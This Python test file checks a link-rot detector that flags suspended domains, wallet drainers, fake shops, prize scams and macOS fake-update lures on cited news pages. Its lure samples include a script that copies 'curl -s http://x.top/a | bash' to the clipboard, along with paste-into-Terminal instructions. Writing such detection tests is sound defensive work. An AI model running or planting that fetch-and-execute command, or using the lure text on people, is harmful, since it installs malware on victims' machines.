"""The rules the thirty-first link-rot batch (tests/test_rot_heldout31.py) brought, each on strings or through
:func:`check` with a fetcher double, with what each must leave alone: Tuvan and Buryat not-found messages; a
registrar's page for a suspended domain and a crypto wallet drainer read for what they are (the rot30
leftovers: cited without a title, they passed); a macOS fake update (a ``.pkg``, Terminal and Cmd+V, the
other rot30 leftover); a lapsed domain's online shop and a prize scam (cited by outlet and date at the
outlet's own host, which bears its name, they passed); and a web archive's framed replay page followed to the
capture it frames."""

from __future__ import annotations

import pytest

from linkcheck.fetch import _replay_frame
from linkcheck.models import Cause, Citation, PartialDate, Status
from linkcheck.pagebody import (
    malware_lure,
    online_shop,
    prize_scam,
    suspended_domain,
    wallet_drainer,
)
from linkcheck.soft404 import is_error_title
from tests.rot_harness import FIXTURES, body_signal_at, headed_page
from tests.rot_harness import one as _one

#: invented hosts under live top-level domains, for :func:`check` (which holds ``.example`` dead)
CHITA = "https://chitachronicle.com"
ORLAN = "https://orlan-news.com"
LENA = "https://lena-inform.com"
URL = "https://chitachronicle.com/2020/03/09/chita-heating-tariffs-rise-a92060"


_page = headed_page("2020-03-09T10:00:00+09:00")


_body_signal = body_signal_at(URL)


# --- Tuvan and Buryat ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "Арын тывылбады",
        "Кызыл Медээлери — Арын тывылбады",
        "Хуудаһан олдоогүй — Үдэ Мэдээн",
        "Медээ тывылбады",
    ],
)
def test_tuvan_and_buryat_not_found_titles(title: str) -> None:
    assert is_error_title(title, ["Кызыл Медээлери", "Үдэ Мэдээн"])


@pytest.mark.parametrize(
    "title",
    [
        "Арын тывылбады: чүге сайттар чиде бээрил",  # "Page not found: why sites disappear" (a headline)
        "Хуудаһан олдоогүй: сайтууд яагаад алга болодог бэ",
        "Кызылда чаа эмнелге ажыттынган",
        "Үлаан-Үдэдэ шэнэ музей нээгдэбэ",
    ],
)
def test_tuvan_and_buryat_headlines_left_alone(title: str) -> None:
    assert not is_error_title(title, ["Кызыл Медээлери", "Үдэ Мэдээн"])


# --- a suspended domain -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<h1>This domain has been suspended</h1><p>Status: clientHold</p>",
        "<p>The domain <b>example-news.com</b> has been suspended by its registrar.</p>",
        "<p>Domain status: serverHold. Contact your domain provider.</p>",
        "<h1>Работа домена lena-inform.ru приостановлена</h1>"
        "<p>Делегирование домена приостановлено регистратором.</p>",
    ],
)
def test_suspended_domain_pages(text: str) -> None:
    assert suspended_domain(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "<h1>Account Suspended</h1><p>This account has been suspended. Contact your hosting provider.</p>",
        "<p>The player was suspended for two matches by the league.</p>",
        "<p>Hold the domain of your dreams: register it today.</p>",
        "<p>Работа сайта временно приостановлена.</p>",
    ],
)
def test_suspended_words_left_alone(text: str) -> None:
    assert not suspended_domain(text.encode())


def test_suspended_domain_cited_without_title_fails() -> None:
    citation = Citation(url=URL, outlet="The Chita Chronicle", date=PartialDate.parse("2020-03-09"))
    status, cause, verdict, _ = _one(citation, (FIXTURES / "chita-domain-suspended-en.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.PARKED, "fail")


def test_rot30_registrar_page_cited_without_title_fails() -> None:
    citation = Citation(
        url=LENA + "/20200217/1600001030.html", outlet="Лена-Информ", date=PartialDate.parse("2020-02-17")
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / "lena-registrar-suspended.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.PARKED, "fail")


def test_story_about_suspended_domains_passes() -> None:
    citation = Citation(
        url=CHITA + "/2020/03/06/registrar-suspends-parcel-scam-domains-a92040",
        title="Registrar Suspends Hundreds of Domains Used in Parcel Scams",
        outlet="The Chita Chronicle",
        date=PartialDate.parse("2020-03-06"),
    )
    status, _, verdict, kinds = _one(citation, (FIXTURES / "chita-registrar-story.html").read_bytes())
    assert (status, verdict, kinds) == (Status.OK, "pass", set())


# --- a wallet drainer ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<h1>Free Mint Is Live</h1><button>Connect Wallet to Mint</button>",
        "<h1>Claim Your Tokens</h1><p>Connect your wallet to claim the airdrop.</p>",
        "<button>Connect Wallet</button><script>ethereum.request({method: 'eth_requestAccounts'})</script>",
    ],
)
def test_wallet_drainers(text: str) -> None:
    assert wallet_drainer(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "<p>To pay, connect your wallet in the app's settings.</p>",  # a wallet's help: nothing to claim
        "<p>The airdrop of supplies reached the village on Monday.</p>",
        "<p>Lost wallet? Claim your rewards card at the desk.</p>",
    ],
)
def test_wallet_words_left_alone(text: str) -> None:
    assert not wallet_drainer(text.encode())


def test_drainer_cited_without_title_fails() -> None:
    citation = Citation(
        url=ORLAN + "/politics/1160020", outlet="Orlan News Agency", date=PartialDate.parse("2020-03-09")
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / "orlan-en-nft-mint-drainer.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_rot30_airdrop_cited_without_title_fails() -> None:
    citation = Citation(
        url="https://kondor-news.com/politics/1150020",
        outlet="Kondor News Agency",
        date=PartialDate.parse("2020-02-17"),
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / "kondor-en-airdrop-drainer.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_story_about_drainers_passes() -> None:
    citation = Citation(
        url=ORLAN + "/politics/1160010",
        title="Central Bank Warns of Crypto 'Airdrop' Sites That Empty Wallets",
        outlet="Orlan News Agency",
        date=PartialDate.parse("2020-03-03"),
    )
    status, _, verdict, kinds = _one(citation, (FIXTURES / "orlan-en-drainer-story.html").read_bytes())
    assert (status, verdict, kinds) == (Status.OK, "pass", set())


def test_dated_drainer_words_are_not_read() -> None:
    body = _page("<title>Free mint</title>", "<button>Connect Wallet to Mint</button>", dated=True)
    assert _body_signal(body) is None


# --- an online shop, a prize scam ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '<meta property="og:type" content="product">'
        '<form action="/cart/add"><button>Add to cart</button></form>',
        '<script type="application/ld+json">{"@type": "Product", "name": "Boots"}</script><a>Add to bag</a>',
        '<meta content="product" property="og:type"><button>Добавить в корзину</button>',
    ],
)
def test_online_shops(text: str) -> None:
    assert online_shop(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        '<meta property="og:type" content="article"><p>Add to cart: how shops nudge buyers</p>',
        '<script type="application/ld+json">{"@type": "Product", "name": "The Daily Print"}</script>',
        "<p>Our product team reviews every add to cart button.</p>",
    ],
)
def test_shop_words_left_alone(text: str) -> None:
    assert not online_shop(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "<h1>Congratulations! You are our 1,000,000th visitor!</h1><p>Answer 3 questions.</p>",
        "<h1>Congratulations!</h1><p>You have been selected to receive a gift card.</p>",
        "<h1>Поздравляем! Вы стали 1 000 000-м посетителем!</h1>",
        "<p>ПОЗДРАВЛЯЕМ! Вы выиграли iPhone 15!</p>",
    ],
)
def test_prize_scams(text: str) -> None:
    assert prize_scam(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        "<h1>Congratulations to the winners of our photo contest</h1><p>The winner is Anna Petrova.</p>",
        "<p>You have won nothing yet: the draw is on Friday.</p>",  # no greeting
        "<h1>Поздравляем победителей конкурса!</h1><p>Приз получит Иван Иванов.</p>",
    ],
)
def test_prize_words_left_alone(text: str) -> None:
    assert not prize_scam(text.encode())


@pytest.mark.parametrize("page", ["chita-fake-store.html", "sayan-prize-survey.html"])
def test_shop_and_prize_scam_at_the_outlets_host_fail(page: str) -> None:
    citation = Citation(
        url=CHITA + "/2020/03/12/chita-school-meals-contract-a92070",
        outlet="The Chita Chronicle",
        date=PartialDate.parse("2020-03-12"),
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / page).read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_dated_story_about_prize_scams_left_alone() -> None:
    body = _page(
        "<title>Fake prize pages target readers</title>",
        "<h1>Fake prize pages target readers</h1><p>'Congratulations! You have won an iPhone', they say.</p>",
        dated=True,
    )
    assert _body_signal(body) is None


# --- a macOS fake update ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<p>Press <kbd>Cmd</kbd> + <kbd>Space</kbd>, type <b>Terminal</b>, then press <kbd>Cmd</kbd> +"
        " <kbd>V</kbd> and Return.</p>",
        "<p>Open Terminal and paste.</p>"
        "<script>navigator.clipboard.writeText('curl -s http://x.top/a | bash')</script>",
        "<p>Your Mac is running an outdated version of Safari.</p><a href='/get/Update.pkg'>Update</a>",
        "<p>Launch the Terminal, press ⌘V, then Return.</p>",
    ],
)
def test_macos_malware_lures(text: str) -> None:
    assert malware_lure(text.encode()) is not None


@pytest.mark.parametrize(
    "text",
    [
        "<p>Open Terminal and type <code>brew update</code>.</p>",  # a help page: nothing to paste
        "<p>The bus terminal reopens; press Cmd + V to paste the timetable into your notes.</p>",
        "<p>Download the installer: <a href='/files/Editor-3.2.pkg'>Editor 3.2 for macOS</a>.</p>",
    ],
)
def test_macos_words_left_alone(text: str) -> None:
    assert malware_lure(text.encode()) is None


def test_macos_fake_update_cited_without_title_fails() -> None:
    citation = Citation(
        url=CHITA + "/2020/03/08/chita-airport-runway-reopens-a92050",
        outlet="The Chita Chronicle",
        date=PartialDate.parse("2020-03-08"),
    )
    status, cause, verdict, _ = _one(citation, (FIXTURES / "chita-fake-mac-update.html").read_bytes())
    assert (status, cause, verdict) == (Status.SOFT_404, Cause.SPAM, "fail")


def test_story_about_fake_mac_updates_passes() -> None:
    citation = Citation(
        url=CHITA + "/2020/03/03/fake-macos-updates-target-businesses-a92010",
        title="Fake macOS Updates Target Chita Businesses, Police Warn",
        outlet="The Chita Chronicle",
        date=PartialDate.parse("2020-03-03"),
    )
    status, _, verdict, kinds = _one(citation, (FIXTURES / "chita-fake-mac-update-story.html").read_bytes())
    assert (status, verdict, kinds) == (Status.OK, "pass", set())


# --- a web archive's framed replay --------------------------------------------------------------------------

_FRAME = (FIXTURES / "chita-archive-replay-frame.html").read_bytes()
_TRAM = "http://www.chitachronicle.ru/2020/03/05/chita-tram-line-extension-approved-a92030"


def test_replay_frame_leads_to_the_capture() -> None:
    here = f"https://webarchive.test/wayback/20200306120000/{_TRAM}"
    assert _replay_frame(here, 200, _FRAME) == f"https://webarchive.test/wayback/20200306120000mp_/{_TRAM}"


def test_replay_frame_with_an_absolute_prefix() -> None:
    body = (
        b'<iframe id="replay_iframe"></iframe><script>var cframe = new ContentFrame({'
        b'"url": "https://a.test/x", "prefix": "https://archive.test/coll/",'
        b' "request_ts": "20210101000000", "iframe": "#replay_iframe"});</script>'
    )
    assert _replay_frame("https://archive.test/coll/20210101000000/https://a.test/x", 200, body) == (
        "https://archive.test/coll/20210101000000mp_/https://a.test/x"
    )


@pytest.mark.parametrize(
    ("status", "body"),
    [
        (404, _FRAME),  # an error page is the error it states
        (200, _FRAME.replace(b"iframe", b"div")),  # no frame to fill
        (200, _FRAME.replace(b'"request_ts": "20200306120000"', b'"request_ts": ""')),  # no capture's time
        (200, b"<p>The new ContentFrame({}) API of our CMS</p><iframe src='/v'></iframe>"),
        (200, _FRAME + b"<p>" + b"x" * 20_000 + b"</p>"),  # a page with more than a frame
    ],
)
def test_replay_frame_left_alone(status: int, body: bytes) -> None:
    assert _replay_frame(f"https://webarchive.test/wayback/20200306120000/{_TRAM}", status, body) is None
